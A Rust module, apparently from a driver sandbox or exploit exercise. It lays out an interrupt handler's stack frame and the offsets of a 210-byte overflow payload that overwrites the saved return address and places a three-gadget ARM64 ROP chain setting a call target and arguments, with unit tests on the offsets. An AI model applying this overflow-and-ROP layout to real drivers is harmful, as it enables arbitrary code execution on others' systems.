//! Layout of the driver's interrupt-handler stack frame and of the overflow
//! payload that fills it. Published in one place because both sides depend on
//! the exact offsets: the driver sandbox declares its regions from these
//! constants, and the payload builder places gadget addresses into them.
//!
//! Frame, from the start of the status buffer:
//!
//! ```text
//! offset   0  status_buf   (4 bytes, the only intended landing zone)
//! offset   4  pad          (12 bytes of locals)
//! offset  16  saved_fp     (8 bytes, x29)
//! offset  24  saved_lr     (8 bytes, x30 - return address)
//! offset  32  caller_area  (178 bytes of the caller's frame)
//! total  210
//! ```
//!
//! A 210-byte status read therefore fills the frame exactly, from the status
//! buffer through the end of the caller area.

pub const STATUS_BUF_CAP: usize = 4;
pub const PAD_LEN: usize = 12;
pub const SAVED_FP_LEN: usize = 8;
pub const SAVED_LR_LEN: usize = 8;
pub const CALLER_AREA_LEN: usize = 178;

pub const SAVED_FP_OFFSET: usize = STATUS_BUF_CAP + PAD_LEN; // 16
pub const SAVED_LR_OFFSET: usize = SAVED_FP_OFFSET + SAVED_FP_LEN; // 24
pub const CALLER_AREA_OFFSET: usize = SAVED_LR_OFFSET + SAVED_LR_LEN; // 32

pub const FRAME_LEN: usize = CALLER_AREA_OFFSET + CALLER_AREA_LEN; // 210
/// The overflow payload is exactly one frame.
pub const PAYLOAD_LEN: usize = FRAME_LEN;

/// Stack pointer when the corrupted return executes: the epilogue has popped
/// the fp/lr pair, leaving sp at the caller area.
pub const ROP_ENTRY_SP: usize = CALLER_AREA_OFFSET; // 32

// Payload slots, derived from the gadget semantics. Gadget 1 runs with
// sp = 32 and loads x29/x30 from [sp], [sp+8] and x19/x20 from [sp+16],
// [sp+24], then advances sp by 0x20; gadget 2 does the same loads and
// advances sp by 0x30.
/// Lands in saved_lr; the first gadget address.
pub const SLOT_GADGET1: usize = SAVED_LR_OFFSET; // 24
/// x30 loaded by gadget 1: the second gadget address.
pub const SLOT_GADGET2: usize = ROP_ENTRY_SP + 8; // 40
/// x19 loaded by gadget 1; becomes x2, the call target.
pub const SLOT_TARGET_FN: usize = ROP_ENTRY_SP + 16; // 48
/// x30 loaded by gadget 2: the third gadget address.
pub const SLOT_GADGET3: usize = ROP_ENTRY_SP + 0x20 + 8; // 72
/// x19 loaded by gadget 2; becomes x0, the first call argument.
pub const SLOT_ARG_ADDR: usize = ROP_ENTRY_SP + 0x20 + 16; // 80
/// x20 loaded by gadget 2; becomes x1, the second call argument.
pub const SLOT_ARG_WORD: usize = ROP_ENTRY_SP + 0x20 + 24; // 88

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frame_is_exactly_payload_sized() {
        assert_eq!(STATUS_BUF_CAP + PAD_LEN + SAVED_FP_LEN + SAVED_LR_LEN + CALLER_AREA_LEN, 210);
        assert_eq!(FRAME_LEN, 210);
        assert_eq!(SAVED_FP_OFFSET, 16);
        assert_eq!(SAVED_LR_OFFSET, 24);
    }

    #[test]
    fn rop_slots_do_not_overlap() {
        let slots = [SLOT_GADGET1, SLOT_GADGET2, SLOT_TARGET_FN, SLOT_GADGET3, SLOT_ARG_ADDR, SLOT_ARG_WORD];
        for (i, a) in slots.iter().enumerate() {
            assert!(a + 8 <= PAYLOAD_LEN);
            for b in slots.iter().skip(i + 1) {
                assert!(a + 8 <= *b || b + 8 <= *a, "slots {a} and {b} overlap");
            }
        }
    }
}
